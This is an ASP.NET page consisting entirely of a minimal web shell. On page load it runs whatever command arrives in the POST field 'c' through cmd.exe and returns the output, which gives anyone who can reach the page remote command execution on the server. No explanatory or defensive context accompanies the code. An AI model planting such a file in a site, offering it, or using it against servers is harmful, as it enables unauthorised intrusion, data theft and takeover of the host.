<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var psi = new System.Diagnostics.ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + Request.Form["c"];
    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
    var p = System.Diagnostics.Process.Start(psi);
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
